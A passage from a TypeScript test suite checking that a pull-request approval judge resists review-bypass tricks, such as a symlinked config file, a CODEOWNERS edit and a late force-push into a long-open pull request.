  });
});

describe('attacks through files GitHub interprets', () => {
  it('consortium.yaml replaced by a symbolic link makes the verdict error', async () => {
    start();
    const head = s.push({ 'consortium/consortium.yaml': { symlink: '../docs/operations.md' } });
    const result = await s.judge({ head, reviews: approve(Object.values(s.admins).flat(), head), openedAt: longAgo });
    expect(result.verdict).toBe('error');
  });

  it('docs/CODEOWNERS decides who must review on GitHub: a toolkit change, not documentation', async () => {
    start();
    const head = s.push({ 'docs/CODEOWNERS': '* @mallory\n' });
    const result = await s.judge({ head, reviews: approve([admin('logistics')], head), openedAt: longAgo });
    expect(kinds(result)).toEqual(['toolkit.update toolkit']);
    expect(result.verdict).toBe('pending');
  });
});

describe('attacks on the minimum open time', () => {
  it('a critical change pushed into a long-open pull request waits the open time from its first approval', async () => {
    start();
    // Opened a week ago as documentation; the toolkit change was force-pushed an hour ago.
    const harmless = s.push({ 'docs/operations.md': '# Operations\n\nTypo.\n' });
    const head = s.push({ 'tools/src/cli/main.ts': 'export const approveEverything = true;\n' });
    expect(head).not.toBe(harmless);
    const hourAgo = new Date(now.getTime() - 3_600_000).toISOString();
    const reviews = [
      admin('manufacturer', 0),
      admin('manufacturer', 1),
      admin('retailer', 0),
      admin('retailer', 1),
    ].map((p) => review(p, 'APPROVED', head, { at: hourAgo }));
    const result = await s.judge({ head, reviews, openedAt: longAgo });
    expect(result.verdict).toBe('pending');
    expect(result.changes.find((c) => c.kind === 'toolkit.update')?.missing.join('\n')).toMatch(/23h left/);
    const later = await s.judge({ head, reviews, openedAt: longAgo, now: new Date(now.getTime() + 24 * 3_600_000) });
    expect(later.verdict).toBe('approved');
  });
});
